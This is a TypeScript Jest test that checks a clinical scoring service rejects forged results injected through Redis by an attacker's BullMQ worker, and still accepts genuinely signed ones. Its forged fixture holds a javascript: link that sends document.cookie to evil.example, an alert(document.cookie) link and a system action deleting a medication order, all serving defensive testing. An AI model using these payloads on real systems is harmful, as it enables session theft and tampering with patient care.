/**
 * Issue 14, scoring results: anyone who can write to Redis can complete a waiting scoring job. Here
 * an attacker's BullMQ worker on the real Redis takes the HTTP service's job and completes it with
 * a forged result (a critical card with `javascript:` links and a `systemActions` delete), unsigned
 * and then signed with a wrong secret. The HTTP service must answer the EHR `{"cards": []}`, count
 * the forgery, and still accept a genuine worker's signed result. The HTTP service sends batch jobs
 * (issue 16): one signature covers every item of a batch result, bound to the job id.
 */
import { randomUUID } from 'node:crypto';
import { Worker, type Job } from 'bullmq';
import type { ScoreBatchJobData, ScoreBatchJobResult, ScoringInput, ScoringOutput } from '@prognos/contracts';
import { loadWorkerConfig, signScoringResult, startScoreWorker, type ScoreWorker } from '../../services/scorer/src/worker';
import { checkResultSecret } from '../../services/cds-hooks/src/main';
import { loadConfig } from '../../services/cds-hooks/src/config';
import { createQueueScorer, type QueueScorer } from '../../services/cds-hooks/src/queue';
import { queueJobs } from '../../services/cds-hooks/src/queue/queue-metrics';
import { generatedRecords, patientViewCall } from '../bench/bench-requests';
import { SHARED_REDIS_URL, catalog, cleanupQueue, realScorer, uniqueQueueName } from '../distributed/support/harness';
import { postJson, startTestApp, type Running } from '../http/support/harness';

jest.setTimeout(60_000);

const SECRET = `result-secret-${randomUUID()}`;

type BatchJob = Job<ScoreBatchJobData>;

function forged(input: ScoringInput): ScoringOutput {
  return {
    correlationId: input.correlationId, serviceId: input.serviceId, predictions: [], executionProvider: 'cpu', inferenceMs: 1,
    cards: [{
      uuid: randomUUID(), kind: 'ckd.forged', summary: 'URGENT: stop all medication now', indicator: 'critical',
      source: { label: 'Nephrology', url: 'javascript:fetch("https://evil.example/"+document.cookie)' },
      links: [{ label: 'Open protocol', url: 'javascript:alert(document.cookie)', type: 'absolute' }],
    }],
    systemActions: [{ type: 'delete', description: 'Remove', resourceId: 'MedicationRequest/important' } as never],
  };
}

/** A forged output for every item of the batch job. */
function forgedBatch(job: BatchJob): ScoreBatchJobResult {
  return { results: job.data.items.map((item) => ({ output: forged(item.input) })) };
}

async function forgeries(): Promise<number> {
  return (await queueJobs.get()).values.find((v) => v.labels.outcome === 'forged_result')?.value ?? 0;
}

describe('security hardening: forged scoring results in Redis', () => {
  const queueName = uniqueQueueName();
  const env = { NODE_ENV: 'test', LOG_LEVEL: 'silent', REDIS_URL: SHARED_REDIS_URL, QUEUE_NAME: queueName, SCORING_RESULT_SECRET: SECRET, HOOK_DEADLINE_MS: '4000' };
  let engine: QueueScorer;
  let app: Running;
  const cat = catalog();
  const service = cat.services.find((s) => s.id === 'ckd-progression')!;
  const calls = generatedRecords(100, new Date(), 4).map((r) => patientViewCall(service, r));
  const call = (i: number) => postJson(`${app.url}${calls[i % calls.length]!.path}`, { ...JSON.parse(calls[i % calls.length]!.body), hookInstance: randomUUID() });

  beforeAll(async () => {
    engine = await createQueueScorer(loadConfig(env), { catalog: cat, fallback: () => { throw new Error('no fallback in this test'); } });
    const deadline = Date.now() + 10_000;
    while (!(await engine.readiness()).checks.redis?.ok && Date.now() < deadline) await new Promise((r) => setTimeout(r, 100));
    app = await startTestApp({ engine, services: cat.services, env });
  });
  afterAll(async () => {
    await app.close();
    await engine.close();
    await cleanupQueue(SHARED_REDIS_URL, queueName);
  });

  it.each([
    ['unsigned', (job: BatchJob) => forgedBatch(job)],
    ['signed with a wrong secret', (job: BatchJob) => signScoringResult(forgedBatch(job), job.id!, `wrong-${SECRET}`)],
    ['a genuine signature of another job (replayed)', (job: BatchJob) => signScoringResult(forgedBatch(job), `other-${job.id}`, SECRET)],
    ['a genuine signature with the card changed afterwards', (job: BatchJob) => {
      const signed = signScoringResult({ results: job.data.items.map((item) => ({ output: { ...forged(item.input), cards: [] } })) }, job.id!, SECRET);
      return { ...signed, results: forgedBatch(job).results };
    }],
    ['a genuine signature of an item failure turned into an output afterwards', (job: BatchJob) => {
      const signed = signScoringResult({ results: job.data.items.map(() => ({ failure: 'scoring_error' })) }, job.id!, SECRET);
      return { ...signed, results: forgedBatch(job).results };
    }],
  ])('refuses a forged completed result (%s): the EHR gets no card and no system action', async (_name, complete) => {
    let taken = 0;
    const attacker = new Worker<ScoreBatchJobData>(queueName, async (job) => { taken += 1; return complete(job); }, { connection: { url: SHARED_REDIS_URL } });
    try {
      const before = await forgeries();
      const res = await call(0);
      expect(taken).toBe(1);
      expect(res.status).toBe(200);
      expect(res.body).toEqual({ cards: [] });
      expect(JSON.stringify(res.body)).not.toMatch(/javascript:|URGENT|delete/);
      expect(await forgeries()).toBe(before + 1);
    } finally {
      await attacker.close();
    }
  });

  it('refuses every call of a forged batch job of several inputs', async () => {
    const sizes: number[] = [];
    const attacker = new Worker<ScoreBatchJobData>(queueName, async (job) => {
      sizes.push(job.data.items.length);
      // A slow worker: the four job slots stay taken while the other calls arrive.
      await new Promise((r) => setTimeout(r, 100));
      return signScoringResult(forgedBatch(job), `other-${job.id}`, SECRET);
    }, { connection: { url: SHARED_REDIS_URL }, concurrency: 1 });
    try {
      const before = await forgeries();
      // More calls at once than QUEUE_MAX_JOBS_IN_FLIGHT (4): the rest leave together as batch jobs.
      const answers = await Promise.all(Array.from({ length: 12 }, (_, i) => call(i)));
      for (const res of answers) {
        expect(res.status).toBe(200);
        expect(res.body).toEqual({ cards: [] });
      }
      expect(Math.max(...sizes)).toBeGreaterThan(1);
      expect(sizes.reduce((a, b) => a + b, 0)).toBe(12);
      expect(await forgeries()).toBe(before + 12);
    } finally {
      await attacker.close();
    }
  });

  it('refuses to start in distributed mode without the shared secret unless development is asked for (both sides)', () => {
    for (const NODE_ENV of [undefined, 'production', 'Production']) {
      const e = { REDIS_URL: SHARED_REDIS_URL, ...(NODE_ENV ? { NODE_ENV } : {}) };
      expect(() => checkResultSecret(loadConfig(e))).toThrow(/SCORING_RESULT_SECRET/);
      expect(() => loadWorkerConfig(e)).toThrow(/SCORING_RESULT_SECRET/);
    }
    expect(checkResultSecret(loadConfig({ REDIS_URL: SHARED_REDIS_URL, NODE_ENV: 'development' }))).toBe(false);
    expect(checkResultSecret(loadConfig({ REDIS_URL: SHARED_REDIS_URL, SCORING_RESULT_SECRET: SECRET }))).toBe(true);
    expect(loadWorkerConfig({ REDIS_URL: SHARED_REDIS_URL, SCORING_RESULT_SECRET: SECRET }).SCORING_RESULT_SECRET).toBe(SECRET);
    expect(() => loadConfig({ SCORING_RESULT_SECRET: 'short' })).toThrow();
  });

  it('accepts the signed result of a genuine worker holding the secret', async () => {
    let worker: ScoreWorker | undefined;
    try {
      worker = startScoreWorker({ redisUrl: SHARED_REDIS_URL, queueName, engine: await realScorer(), resultSecret: SECRET, concurrency: 4 });
      const before = await forgeries();
      let cards = 0;
      for (let i = 0; i < calls.length && cards === 0; i++) {
        const res = await call(i);
        expect(res.status).toBe(200);
        cards += res.body.cards.length;
      }
      expect(cards).toBeGreaterThan(0);
      expect(worker.counts().completed).toBeGreaterThan(0);
      expect(await forgeries()).toBe(before);
    } finally {
      await worker?.close(1000);
    }
  });
});
